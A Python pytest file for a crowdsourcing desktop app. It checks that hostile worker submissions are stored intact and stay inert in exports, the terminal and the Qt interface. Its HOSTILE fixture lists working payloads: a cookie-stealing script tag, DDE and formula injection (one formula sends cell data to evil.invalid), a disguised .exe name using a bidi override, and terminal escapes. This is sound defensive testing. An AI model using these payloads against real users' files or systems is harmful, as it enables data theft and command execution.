"""What workers may send to harm the person who reads it: kept, shown as text, inert in every export."""

from __future__ import annotations

import csv
import json
import unicodedata
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any, Final

import openpyxl
import pytest
from PySide6 import QtGui
from PySide6.QtCore import Qt
from PySide6.QtGui import QGuiApplication, QTextDocument
from PySide6.QtWidgets import QLabel, QTextBrowser, QTextEdit

from crowddesk.cli.rows import print_table
from crowddesk.data_model.database import CrowdDatabase
from crowddesk.lanes import Threads
from crowddesk.operations import export, transfer
from crowddesk.operations.workspace import open_workspace
from crowddesk.registry import get_crowd_provider_from_type
from crowddesk.settings import Settings
from crowddesk.store.queries import UNITS, Scope
from crowddesk.taskserver.gate import parse_json
from crowddesk.testing.workspace import launch, make_run
from crowddesk.ui.detail import LONGEST
from crowddesk.ui.main_window import MainWindow, PageSpec
from crowddesk.ui.pages.units import UnitsPage
from crowddesk.ui.pages.workers import WorkersPage
from crowddesk.ui.session import Session
from crowddesk.ui.theme import Theme
from crowddesk.ui.tips import plain_tip
from crowddesk.ui.words import readable

ICONS = Path(__file__).parents[1] / "resources" / "icons"

HOSTILE: Final = {
    "script": "<script>alert(document.cookie)</script>",
    "image": '<img src="file:///etc/passwd" onerror="alert(1)">',
    "styled": "<h1 style='color:red'>VOID</h1><a href='https://evil.invalid'>here</a>",
    "link": "javascript:alert(1)",
    "file link": "file:///etc/passwd",
    "entity": "&lt;b&gt; &amp; <b>bold</b>",
    "override": "invoice\u202efdp.exe",
    "isolates": "\u2067\u2066abc\u2069",
    "formula": '=HYPERLINK("https://evil.invalid/?"&A1,"click")',
    "dde": "=cmd|'/C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|'/C calc'!A0",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "line": "first\n=1+1",
    "quotes": '",=1+1,"',
    "separator": ";=1+1",
    "wide": "＝1+1",
    "escape": "\x1b]0;title\x07\x1b[31mred",
    "controls": "a\x01\x08\x0b\x7f\x85b",
    "unseen": "a\u200b\u200d\ufeff\u2028\u2029b",
    "marks": "Z" + "\u0324\u0361" * 300,
    "percent": "%s%n{0}{}${text}",
}
#: What no text in a database holds, and what is kept in its place.
CHANGED: Final = {"nul": ("a\0b", "a\ufffdb"), "half": ("a\ud800b", "a\ufffdb")}
REF: Final = {"sha256": "0" * 64, "size": 3, "type": "text/html"}


class Answered:
    """A workspace with a unit for each hostile text: its answer, the name of a file and of its worker."""

    def __init__(self, folder: Path, texts: list[str]) -> None:
        self.db: CrowdDatabase = open_workspace(folder)
        provider_class = get_crowd_provider_from_type("mock")
        run = make_run(self.db, self.db.find_requesters("practice")[0], items=len(texts))
        for place, (text, unit) in enumerate(zip(texts, launch(provider_class(self.db), run), strict=True)):
            # A name that no database takes is refused where it comes in.
            name = text if text in HOSTILE.values() else f"worker {place}"
            worker = provider_class.WorkerClass.new(self.db, name)
            agent = provider_class.AgentClass.new(self.db, worker, unit)
            agent.handle_submit({"answer": text, text: "named", "photo": {"file": text, **REF}})
            agent.update_status("completed")
        self.run = int(run.db_id)

    def rows(self) -> list[Any]:
        with self.db.read() as conn:
            return list(UNITS.iterate(conn, UNITS.parse(""), Scope(run_id=self.run)))

    def answers(self) -> list[dict[str, Any]]:
        return [json.loads(row.answer) for row in self.rows()]


@pytest.fixture
def answered(workspace_path: Path) -> Iterator[Answered]:
    made = Answered(workspace_path, list(HOSTILE.values()))
    yield made
    made.db.close()


# ------------------------------------------------------------------------------------------------- stored


def test_every_answer_name_and_file_name_is_kept(answered: Answered) -> None:
    expected = [{"answer": t, t: "named", "photo": {"file": t, **REF}} for t in HOSTILE.values()]
    assert answered.answers() == expected
    assert [row.worker_name for row in answered.rows()] == list(HOSTILE.values())


def test_what_no_database_holds_as_text_is_kept_with_a_sign_in_its_place(workspace_path: Path) -> None:
    sent = {name: text for name, (text, _) in CHANGED.items()}
    made = Answered(workspace_path, list(parse_json(json.dumps(sent).encode()).values()))
    try:
        assert [answer["answer"] for answer in made.answers()] == [kept for _, kept in CHANGED.values()]
    finally:
        made.db.close()


# ------------------------------------------------------------------------------------------------ exports


def test_no_export_holds_a_formula(answered: Answered, tmp_path: Path) -> None:
    for ending in ("csv", "jsonl", "xlsx"):
        wanted = export.Wanted(answered.run, f".{ending}", names=True)
        export.export(answered.db, wanted, tmp_path / f"out.{ending}")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))] == []
    back = {transfer.unquoted(cell) for cell in cells}
    assert back >= set(HOSTILE.values())
    assert back >= {f"output.{text}" for text in HOSTILE.values()}
    for line in openpyxl.load_workbook(tmp_path / "out.xlsx").active.iter_rows():
        for cell in line:
            assert cell.data_type in ("s", "n"), cell.coordinate
            assert cell.hyperlink is None
            assert not str(cell.value).startswith(("=", "+", "@")) or cell.quotePrefix, cell.coordinate
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").split("\n")[:-1]
    assert [json.loads(line)["output"]["answer"] for line in lines] == list(HOSTILE.values())


def test_a_terminal_is_told_nothing_by_the_lists_of_the_command_line(
    capsys: pytest.CaptureFixture[str],
) -> None:
    print_table(["Worker", "Note"], [[text, "end"] for text in HOSTILE.values()])
    lines = capsys.readouterr().out.split("\n")
    assert len(lines) == len(HOSTILE) + 2
    assert not any(unicodedata.category(sign) == "Cc" for line in lines for sign in line)
    assert not any("\u202e" in line for line in lines)


# ----------------------------------------------------------------------------------------------- the window


class Shown:
    """The window over a workspace."""

    def __init__(self, qtbot: Any, db: CrowdDatabase) -> None:
        self.qtbot = qtbot
        self.threads = Threads(db)
        self.session = Session(db, self.threads, Settings(), load={}.get, save=lambda key, value: None)
        specs = [
            PageSpec("units", "units", "home", partial(self._make, UnitsPage)),
            PageSpec("workers", "workers", "home", partial(self._make, WorkersPage)),
        ]
        self.window = MainWindow(specs, load={}.get, save=lambda key, value: None)
        qtbot.addWidget(self.window)
        self.window.resize(1400, 900)
        self.window.show()

    def _make(self, page_class: Any) -> Any:
        return page_class(self.session, self.window)

    def page(self, key: str) -> Any:
        page = self.window.show_page(key)
        self.qtbot.waitUntil(lambda: page.model.phase == "ready" and page.model.ids_known)
        return page


@pytest.fixture
def show(qtbot: Any, qapp: Any) -> Iterator[Any]:
    theme = Theme(qapp, ICONS, scheme="light", reduced_motion=False)
    made: list[Shown] = []

    def make(db: CrowdDatabase) -> Shown:
        made.append(Shown(qtbot, db))
        return made[-1]

    yield make
    for shown in made:
        shown.threads.stop()
    theme.deleteLater()


def is_plain(widget: Any) -> None:
    """Nothing in it is drawn as HTML or can be followed like a link."""
    for label in widget.findChildren(QLabel):
        is_rich = label.textFormat() != Qt.TextFormat.PlainText and QtGui.Qt.mightBeRichText(label.text())
        assert not is_rich, label.text()
        assert not label.openExternalLinks()
    assert widget.findChildren(QTextBrowser) == []
    for box in widget.findChildren(QTextEdit):
        block = box.document().begin()
        while block.isValid():
            assert not any(layout.format.isAnchor() for layout in block.textFormats())
            block = block.next()
    for child in widget.findChildren(object):
        tip = child.toolTip() if hasattr(child, "toolTip") else ""
        assert drawn(tip) == tip or "<p style=" in tip, tip


def drawn(tip: str) -> str:
    """What a tool tip shows."""
    if not QtGui.Qt.mightBeRichText(tip):
        return tip
    document = QTextDocument()
    document.setHtml(tip)
    return document.toPlainText()


@pytest.mark.parametrize("text", [*HOSTILE.values(), "<p>", "a<b>c\n<i>d", "<?xml", "<!-- x -->"])
def test_a_tool_tip_shows_just_the_text(text: str) -> None:
    shown = drawn(plain_tip(text))
    assert shown.split() == readable(text).split() or any(sign < " " for sign in text)
    assert "<img" not in plain_tip(text)


def test_the_table_and_its_tips_show_text(answered: Answered, show: Any, qtbot: Any) -> None:
    page = show(answered.db).page("units")
    titles = [column.key for column in page.model.columns]
    for place, text in enumerate(HOSTILE.values()):
        cell = page.model.index(place, titles.index("worker"))
        assert page.model.data(cell, Qt.ItemDataRole.DisplayRole) == text
        tip = page.model.data(cell, Qt.ItemDataRole.ToolTipRole)
        assert drawn(tip).split() == readable(text).split() or "\x01" in text or "\x1b" in text
        fitted = page.table._cells.fitted(text, 10_000, middle=False)
        assert not set(fitted) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
    assert not page.table.grab().isNull()
    is_plain(page)


def test_what_is_copied_as_rows_is_inert_and_one_answer_is_exact(
    answered: Answered, show: Any, qtbot: Any
) -> None:
    page = show(answered.db).page("units")
    page.table.selectAll()
    with qtbot.waitSignal(page.table.copied):
        page.table.copy_selection()
    lines = QGuiApplication.clipboard().text().split("\n")
    cells = [cell for line in lines for cell in line.split("\t")]
    assert len(lines) == len(HOSTILE) + 2
    assert len(cells) == (len(HOSTILE) + 1) * len(lines[0].split("\t")) + 1
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝"))] == []


def test_the_pane_shows_text(answered: Answered, show: Any, qtbot: Any) -> None:
    page = show(answered.db).page("units")
    for row in answered.rows():
        page.unit.show_unit(row.id)
        qtbot.waitUntil(
            lambda row=row: page.unit.title.text() == f"Unit {row.id}" and is_filled(page.unit, row)
        )
        is_plain(page.unit)
        assert not page.unit.grab().isNull()
        if row.worker_name == HOSTILE["override"]:
            warned = [label.text() for label in page.unit.findChildren(QLabel) if "U+202E" in label.text()]
            assert len(warned) >= 2


def is_filled(pane: Any, row: Any) -> bool:
    wanted = (
        json.loads(row.answer)["answer"].replace("\r", "\n").replace("\u2029", "\n").replace("\u2028", "\n")
    )
    shown = [box.toPlainText().replace("\u2028", "\n") for box in pane.findChildren(QTextEdit)]
    return any(text.split() == wanted.split() for text in shown)


def test_a_worker_by_such_a_name_is_shown_as_text(answered: Answered, show: Any, qtbot: Any) -> None:
    page = show(answered.db).page("workers")
    for place in range(len(HOSTILE)):
        page.table.select_id(page.model.id_at(place))
        page.table.setFocus()
    assert not page.table.grab().isNull()
    is_plain(page)


def test_ten_megabytes_are_kept_whole_and_shown_from_their_beginning(
    workspace_path: Path, show: Any, qtbot: Any
) -> None:
    huge = "<b>" + "x" * (10 * 2**20)
    made = Answered(workspace_path, ["small"])
    try:
        provider_class = get_crowd_provider_from_type("mock")
        run = make_run(made.db, made.db.find_requesters("practice")[0], items=1)
        (unit,) = launch(provider_class(made.db), run)
        agent = provider_class.AgentClass.new(made.db, provider_class.WorkerClass.new(made.db, "w"), unit)
        agent.handle_submit({"answer": huge})
        agent.update_status("completed")
        page = show(made.db).page("units")
        pane = page.unit
        pane.show_unit(int(unit.db_id))
        qtbot.waitUntil(lambda: any(b.toPlainText().startswith("<b>x") for b in pane.findChildren(QTextEdit)))
        assert max(len(box.toPlainText()) for box in pane.findChildren(QTextEdit)) <= LONGEST
        assert any("characters more" in label.text() for label in pane.findChildren(QLabel))
        for place in range(page.model.rowCount()):
            for column in range(page.model.columnCount()):
                tip = page.model.data(page.model.index(place, column), Qt.ItemDataRole.ToolTipRole)
                assert len(tip or "") < 10_000
        made.run = int(run.db_id)
        assert made.answers() == [{"answer": huge}]
    finally:
        made.db.close()
